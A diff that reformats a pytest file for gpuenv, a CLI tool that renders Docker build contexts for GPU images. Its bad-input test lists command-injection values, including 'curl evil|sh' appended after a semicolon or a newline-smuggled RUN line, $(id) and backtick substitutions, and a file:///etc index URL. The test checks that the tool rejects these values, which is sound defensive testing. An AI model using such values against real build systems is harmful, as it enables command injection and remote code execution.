@@ -17,39 +17,43 @@ NO_DOCKER = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}
 
 def _fails_cleanly(result: subprocess.CompletedProcess[str], code: int) -> None:
     assert result.returncode == code, result.stderr
-    assert result.stderr.startswith("gpuenv: error: ") or result.stderr.startswith("Error: ") or \
-        "Usage:" in result.stderr, result.stderr
+    assert (
+        result.stderr.startswith("gpuenv: error: ") or result.stderr.startswith("Error: ") or "Usage:" in result.stderr
+    ), result.stderr
     assert "Traceback" not in result.stderr
 
 
-@pytest.mark.parametrize("args", [
-    ["--pip", "x; curl evil|sh"],
-    ["--pip", "einops\nRUN id"],
-    ["--tag", "a b"],
-    ["--tag", "team/torch:1\nRUN id"],
-    ["--build-arg", "X=$(id)"],
-    ["--build-arg", "X=`id`"],
-    ["--build-arg", "X=a\nb"],
-    ["--base-image", "ubuntu\nRUN curl evil|sh"],
-    ["--index-url", "https://mirror.example.com/whl\nRUN id"],
-    ["--index-url", "file:///etc"],
-    ["--cuda", "11.7; id"],
-    ["--torch", "2.0.1\nRUN id"],
-    ["--gpu", "H100\nRUN id"],
-    ["--os", "ubuntu22.04\nx"],
-    ["--with", "torchtext"],
-    ["--with", "none,torchvision"],
-    ["--app", "/nonexistent/app"],
-    ["--wheelhouse", "/nonexistent/wheels"],
-    ["--spec", "no-such-spec"],
-    ["--flavor", "debug"],
-    ["--os", "rockylinux9"],
-    ["--os", "debian12"],
-    ["--flavor", "devel", "--slim"],
-    ["--torch", "2.13.0", "--with", "torchaudio"],
-    ["--push"],
-    ["--verify"],
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["--pip", "x; curl evil|sh"],
+        ["--pip", "einops\nRUN id"],
+        ["--tag", "a b"],
+        ["--tag", "team/torch:1\nRUN id"],
+        ["--build-arg", "X=$(id)"],
+        ["--build-arg", "X=`id`"],
+        ["--build-arg", "X=a\nb"],
+        ["--base-image", "ubuntu\nRUN curl evil|sh"],
+        ["--index-url", "https://mirror.example.com/whl\nRUN id"],
+        ["--index-url", "file:///etc"],
+        ["--cuda", "11.7; id"],
+        ["--torch", "2.0.1\nRUN id"],
+        ["--gpu", "H100\nRUN id"],
+        ["--os", "ubuntu22.04\nx"],
+        ["--with", "torchtext"],
+        ["--with", "none,torchvision"],
+        ["--app", "/nonexistent/app"],
+        ["--wheelhouse", "/nonexistent/wheels"],
+        ["--spec", "no-such-spec"],
+        ["--flavor", "debug"],
+        ["--os", "rockylinux9"],
+        ["--os", "debian12"],
+        ["--flavor", "devel", "--slim"],
+        ["--torch", "2.13.0", "--with", "torchaudio"],
+        ["--push"],
+        ["--verify"],
+    ],
+)
 def test_bad_input_exits_2_and_writes_nothing(tmp_path: Path, args: list[str]) -> None:
     dest = tmp_path / "out"
     result = run_gpuenv("build-image", *args, "--render-only", str(dest), env=NO_DOCKER)
@@ -59,14 +63,33 @@ def test_bad_input_exits_2_and_writes_nothing(tmp_path: Path, args: list[str]) -
 
 def test_render_only_writes_a_buildable_context_without_docker(tmp_path: Path) -> None:
     dest = tmp_path / "ctx"
-    result = run_gpuenv("build-image", "--cuda", "11.7", "--cudnn", "--os", "ubuntu20.04", "--render-only", str(dest),
-                        "--json", env=NO_DOCKER)
+    result = run_gpuenv(
+        "build-image",
+        "--cuda",
+        "11.7",
+        "--cudnn",
+        "--os",
+        "ubuntu20.04",
+        "--render-only",
+        str(dest),
+        "--json",
+        env=NO_DOCKER,
+    )
     assert result.returncode == 0, result.stderr
     out = json.loads(result.stdout)
     assert out["base_image"] == "nvidia/cuda:11.7.1-cudnn8-runtime-ubuntu20.04"
     names = sorted(p.name for p in dest.iterdir())
-    assert names == sorted([".dockerignore", "Dockerfile", "constraints.txt", "extra-requirements.txt",
-                            "gpuenv-wheel", "requirements.txt", "stack.json"])
+    assert names == sorted(
+        [
+            ".dockerignore",
+            "Dockerfile",
+            "constraints.txt",
+            "extra-requirements.txt",
+            "gpuenv-wheel",
+            "requirements.txt",
+            "stack.json",
+        ]
+    )
     assert json.loads((dest / "stack.json").read_text())["cuda"] == "11.7.1"
     wheels = list((dest / "gpuenv-wheel").glob("gpuenv-*-py3-none-any.whl"))
     assert len(wheels) == 1
@@ -107,8 +130,9 @@ def test_render_only_never_writes_outside_the_directory(tmp_path: Path) -> None:
     assert (dest / "app" / "pkg" / "link").is_symlink()  # copied as a link, not followed
     assert not (dest / "app" / ".git").exists()
     assert "COPY app/requirements.txt /tmp/gpuenv/app-requirements.txt" in (dest / "Dockerfile").read_text()
-    inside = run_gpuenv("build-image", "--cuda", "12.4", "--app", str(app), "--render-only", str(app / "ctx"),
-                        env=NO_DOCKER)
+    inside = run_gpuenv(
+        "build-image", "--cuda", "12.4", "--app", str(app), "--render-only", str(app / "ctx"), env=NO_DOCKER
+    )
     _fails_cleanly(inside, 2)
     assert not (app / "ctx").exists()
 
@@ -135,8 +159,9 @@ def test_stack_file_from_resolve_is_rendered_exactly(tmp_path: Path) -> None:
     stack_file = tmp_path / "stack.json"
     stack_file.write_text(resolved.stdout)
     dest = tmp_path / "ctx"
-    result = run_gpuenv("build-image", "--stack", str(stack_file), "--flavor", "devel", "--render-only", str(dest),
-                        env=NO_DOCKER)
+    result = run_gpuenv(
+        "build-image", "--stack", str(stack_file), "--flavor", "devel", "--render-only", str(dest), env=NO_DOCKER
+    )
     assert result.returncode == 0, result.stderr
     assert json.loads((dest / "stack.json").read_text()) == json.loads(resolved.stdout)
     assert 'TORCH_CUDA_ARCH_LIST="9.0"' in (dest / "Dockerfile").read_text()
@@ -147,8 +172,18 @@ def test_wheelhouse_without_the_pinned_torch_is_refused_before_writing(tmp_path:
     wheels.mkdir()
     (wheels / "numpy-2.0.0-cp311-cp311-manylinux_2_17_x86_64.whl").write_bytes(b"")
     dest = tmp_path / "ctx"
-    result = run_gpuenv("build-image", "--torch", "2.13.0", "--with", "none", "--wheelhouse", str(wheels),
-                        "--render-only", str(dest), env=NO_DOCKER)
+    result = run_gpuenv(
+        "build-image",
+        "--torch",
+        "2.13.0",
+        "--with",
+        "none",
+        "--wheelhouse",
+        str(wheels),
+        "--render-only",
+        str(dest),
+        env=NO_DOCKER,
+    )
     _fails_cleanly(result, 2)
     assert "torch==2.13.0" in result.stderr and not dest.exists()
 
@@ -156,8 +191,13 @@ def test_wheelhouse_without_the_pinned_torch_is_refused_before_writing(tmp_path:
 def test_wheelhouse_without_gpuenv_dependencies_or_extras_is_refused(tmp_path: Path) -> None:
     wheels = tmp_path / "wheels"
     wheels.mkdir()
-    present = ["torch-2.13.0-cp311-cp311-manylinux_2_28_x86_64.whl", "click-8.1.0-py3-none-any.whl",
-               "jinja2-3.1.0-py3-none-any.whl", "packaging-24.0-py3-none-any.whl", "rich-13.0.0-py3-none-any.whl"]
+    present = [
+        "torch-2.13.0-cp311-cp311-manylinux_2_28_x86_64.whl",
+        "click-8.1.0-py3-none-any.whl",
+        "jinja2-3.1.0-py3-none-any.whl",
+        "packaging-24.0-py3-none-any.whl",
+        "rich-13.0.0-py3-none-any.whl",
+    ]
     for name in present:
         (wheels / name).write_bytes(b"")
     args = ["build-image", "--torch", "2.13.0", "--with", "none", "--wheelhouse", str(wheels)]
@@ -173,8 +213,9 @@ def test_wheelhouse_without_gpuenv_dependencies_or_extras_is_refused(tmp_path: P
     assert sorted(p.name for p in (tmp_path / "c" / "wheels").iterdir()) == sorted(p.name for p in wheels.iterdir())
 
 
-@pytest.mark.parametrize("args", [["--os", "rockylinux9"], ["--torch", "2.13.0", "--with", "torchaudio"],
-                                  ["--tag", "a b"]])
+@pytest.mark.parametrize(
+    "args", [["--os", "rockylinux9"], ["--torch", "2.13.0", "--with", "torchaudio"], ["--tag", "a b"]]
+)
 def test_a_bad_request_is_exit_2_even_without_docker(args: list[str]) -> None:
     _fails_cleanly(run_gpuenv("build-image", *args, env=NO_DOCKER), 2)
 
